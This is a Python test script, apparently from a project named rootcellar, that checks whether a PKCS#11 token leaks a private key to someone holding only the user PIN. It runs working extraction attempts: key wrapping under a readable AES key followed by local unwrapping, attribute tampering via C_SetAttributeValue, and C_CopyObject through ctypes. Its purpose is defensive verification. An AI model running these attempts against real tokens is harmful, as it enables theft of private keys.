#!/usr/bin/env python3
"""Tries, from outside rootcellar, to get a private key out of a PKCS#11 token with only the
user PIN (issue #15): PyKCS11 drives the token's module directly, as an attacker at the
appliance would.

    pkcs11_attack.py --module SO --token LABEL --pin-file FILE --label KEY [--control]

The attempts, each on the key labelled KEY:

- wrap: an ad-hoc session AES key, its value readable, wraps the key (C_WrapKey); had it
  worked, the value is read and the wrapped key decrypted here into the private key in the
  clear (checked against the key's public half);
- trusted: a session AES key marked CKA_TRUSTED by the user (only the SO may set it), and
  CKA_TRUSTED set on an existing key (C_SetAttributeValue);
- set-ATTRIBUTE: C_SetAttributeValue turning on CKA_DERIVE, CKA_DECRYPT, CKA_UNWRAP,
  CKA_SIGN_RECOVER and CKA_EXTRACTABLE on the private key, and CKA_WRAP on the public one;
- copy: C_CopyObject of the private key with CKA_DERIVE on (and with no change), called
  through ctypes on the module PyKCS11 loaded (PyKCS11 has no C_CopyObject).

With --control the same attempts run on a session key made as rootcellar made keys before
issue #15 (extractable, modifiable, copyable, not wrap-with-trusted), to show they work there.

Prints one JSON object: the key's attributes as the token reports them (`attributes`), and for
each attempt what the token answered (`attempts`: "accepted", or the CKR_ name), plus
`recovered` when the private key came out in the clear. Exits 0 when every attempt was
refused, 1 when any was accepted, 2 on a usage or setup error.
"""

import argparse
import ctypes
import json
import os
import sys

import PyKCS11

P384 = bytes.fromhex("06052b81040022")


def answer(call):
    """Runs `call`; "accepted", or the name of the CKR_ the token returned."""
    try:
        call()
        return "accepted"
    except PyKCS11.PyKCS11Error as e:
        return PyKCS11.CKR[e.value] if e.value in PyKCS11.CKR else hex(e.value)


def attributes(session, handle, names):
    values = session.getAttributeValue(handle, [getattr(PyKCS11, n) for n in names])
    return {n: bool(v) if isinstance(v, (bool, int)) else v for n, v in zip(names, values)}


class CopyObject:
    """C_CopyObject on the module PyKCS11 loaded: dlopen gives the same library, with the
    session and object handles PyKCS11 holds."""

    class Attribute(ctypes.Structure):
        _fields_ = [("type", ctypes.c_ulong), ("value", ctypes.c_void_p), ("len", ctypes.c_ulong)]

    def __init__(self, module):
        self.lib = ctypes.CDLL(module)
        self.lib.C_CopyObject.restype = ctypes.c_ulong

    def __call__(self, session, handle, template):
        keep = []
        array = (self.Attribute * max(len(template), 1))()
        for i, (kind, value) in enumerate(template):
            byte = ctypes.c_ubyte(1 if value else 0)
            keep.append(byte)
            array[i] = self.Attribute(kind, ctypes.cast(ctypes.byref(byte), ctypes.c_void_p), 1)
        new = ctypes.c_ulong(0)
        rv = self.lib.C_CopyObject(
            ctypes.c_ulong(session_handle(session)),
            ctypes.c_ulong(handle.value()),
            array,
            ctypes.c_ulong(len(template)),
            ctypes.byref(new),
        )
        if rv != 0:
            raise PyKCS11.PyKCS11Error(rv)
        # The copy was made: an accepted attempt; it goes at once.
        self.lib.C_DestroyObject(ctypes.c_ulong(session_handle(session)), new)


def session_handle(session):
    handle = session.session
    return handle.value() if hasattr(handle, "value") else int(handle)


def recover(session, aes, private, public):
    """The whole attack: wrap under `aes`, read its value, unwrap here; the recovered key's
    public point compared with the token's."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.keywrap import aes_key_unwrap_with_padding

    mechanism = PyKCS11.Mechanism(PyKCS11.CKM_AES_KEY_WRAP_PAD)
    wrapped = bytes(session.wrapKey(aes, private, mechanism))
    value = bytes(session.getAttributeValue(aes, [PyKCS11.CKA_VALUE])[0])
    pkcs8 = aes_key_unwrap_with_padding(value, wrapped)
    key = serialization.load_der_private_key(pkcs8, password=None)
    point = key.public_key().public_bytes(
        serialization.Encoding.X962, serialization.PublicFormat.UncompressedPoint
    )
    token_point = bytes(session.getAttributeValue(public, [PyKCS11.CKA_EC_POINT])[0])
    return point in token_point


def attack(session, module, private, public):
    attempts = {}
    result = {"attempts": attempts}
    try:
        aes = session.generateKey(
            [
                (PyKCS11.CKA_CLASS, PyKCS11.CKO_SECRET_KEY),
                (PyKCS11.CKA_KEY_TYPE, PyKCS11.CKK_AES),
                (PyKCS11.CKA_VALUE_LEN, 32),
                (PyKCS11.CKA_TOKEN, False),
                (PyKCS11.CKA_SENSITIVE, False),
                (PyKCS11.CKA_EXTRACTABLE, True),
                (PyKCS11.CKA_WRAP, True),
            ],
            PyKCS11.Mechanism(PyKCS11.CKM_AES_KEY_GEN),
        )
    except PyKCS11.PyKCS11Error as e:
        # A token that makes no such key (tpm2-pkcs11: CKR_FUNCTION_NOT_SUPPORTED) cannot be
        # asked to wrap under one: said, not counted as accepted.
        aes = None
        attempts["wrap"] = "no AES key to wrap under: " + PyKCS11.CKR.get(e.value, hex(e.value))
    if aes is not None:
        mechanism = PyKCS11.Mechanism(PyKCS11.CKM_AES_KEY_WRAP_PAD)
        attempts["wrap"] = answer(lambda: session.wrapKey(aes, private, mechanism))
        if attempts["wrap"] == "accepted":
            result["recovered"] = recover(session, aes, private, public)
    attempts["trusted-new-key"] = answer(
        lambda: session.createObject(
            [
                (PyKCS11.CKA_CLASS, PyKCS11.CKO_SECRET_KEY),
                (PyKCS11.CKA_KEY_TYPE, PyKCS11.CKK_AES),
                (PyKCS11.CKA_VALUE, os.urandom(32)),
                (PyKCS11.CKA_TOKEN, False),
                (PyKCS11.CKA_WRAP, True),
                (PyKCS11.CKA_TRUSTED, True),
            ]
        )
    )
    if aes is not None:
        attempts["trusted-set"] = answer(
            lambda: session.setAttributeValue(aes, [(PyKCS11.CKA_TRUSTED, True)])
        )
        session.destroyObject(aes)
    for name in ["CKA_DERIVE", "CKA_DECRYPT", "CKA_UNWRAP", "CKA_SIGN_RECOVER", "CKA_EXTRACTABLE"]:
        kind = getattr(PyKCS11, name)
        attempts["set-" + name] = answer(
            lambda: session.setAttributeValue(private, [(kind, True)])
        )
    attempts["set-public-CKA_WRAP"] = answer(
        lambda: session.setAttributeValue(public, [(PyKCS11.CKA_WRAP, True)])
    )
    copy = CopyObject(module)
    attempts["copy-with-CKA_DERIVE"] = answer(
        lambda: copy(session, private, [(PyKCS11.CKA_DERIVE, True)])
    )
    attempts["copy"] = answer(lambda: copy(session, private, []))
    return result


def control_key(session):
    """A session key pair as rootcellar made a key for backup before issue #15."""
    label = "attack-control"
    public, private = session.generateKeyPair(
        [
            (PyKCS11.CKA_TOKEN, False),
            (PyKCS11.CKA_VERIFY, True),
            (PyKCS11.CKA_EC_PARAMS, P384),
            (PyKCS11.CKA_LABEL, label),
        ],
        [
            (PyKCS11.CKA_TOKEN, False),
            (PyKCS11.CKA_PRIVATE, True),
            (PyKCS11.CKA_SENSITIVE, True),
            (PyKCS11.CKA_EXTRACTABLE, True),
            (PyKCS11.CKA_SIGN, True),
            (PyKCS11.CKA_DECRYPT, False),
            (PyKCS11.CKA_UNWRAP, False),
            (PyKCS11.CKA_DERIVE, False),
            (PyKCS11.CKA_LABEL, label),
        ],
        PyKCS11.Mechanism(PyKCS11.CKM_EC_KEY_PAIR_GEN),
    )
    return private, public


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--module", required=True)
    parser.add_argument("--token", required=True)
    parser.add_argument("--pin-file", required=True)
    parser.add_argument("--label", required=True)
    parser.add_argument("--control", action="store_true")
    args = parser.parse_args()

    lib = PyKCS11.PyKCS11Lib()
    lib.load(args.module)
    slots = [
        s
        for s in lib.getSlotList(tokenPresent=True)
        if lib.getTokenInfo(s).label.strip() == args.token
    ]
    if len(slots) != 1:
        print(f"pkcs11_attack: {len(slots)} tokens labelled {args.token!r}", file=sys.stderr)
        return 2
    session = lib.openSession(slots[0], PyKCS11.CKF_SERIAL_SESSION | PyKCS11.CKF_RW_SESSION)
    with open(args.pin_file) as f:
        session.login(f.read().strip())
    if args.control:
        private, public = control_key(session)
    else:
        found = {}
        for cls in (PyKCS11.CKO_PRIVATE_KEY, PyKCS11.CKO_PUBLIC_KEY):
            handles = session.findObjects([(PyKCS11.CKA_CLASS, cls), (PyKCS11.CKA_LABEL, args.label)])
            if len(handles) != 1:
                print(f"pkcs11_attack: {len(handles)} objects of class {cls} labelled {args.label!r}", file=sys.stderr)
                return 2
            found[cls] = handles[0]
        private, public = found[PyKCS11.CKO_PRIVATE_KEY], found[PyKCS11.CKO_PUBLIC_KEY]
    result = {
        "attributes": attributes(
            session,
            private,
            [
                "CKA_SENSITIVE",
                "CKA_EXTRACTABLE",
                "CKA_MODIFIABLE",
                "CKA_COPYABLE",
                "CKA_WRAP_WITH_TRUSTED",
                "CKA_SIGN",
                "CKA_DECRYPT",
                "CKA_UNWRAP",
                "CKA_DERIVE",
            ],
        ),
        "public_attributes": attributes(session, public, ["CKA_MODIFIABLE", "CKA_WRAP", "CKA_ENCRYPT"]),
    }
    result.update(attack(session, args.module, private, public))
    result["after"] = attributes(session, private, ["CKA_DECRYPT", "CKA_UNWRAP", "CKA_DERIVE"])
    print(json.dumps(result, indent=2, sort_keys=True))
    session.logout()
    accepted = [k for k, v in result["attempts"].items() if v == "accepted"]
    return 1 if accepted else 0


if __name__ == "__main__":
    sys.exit(main())
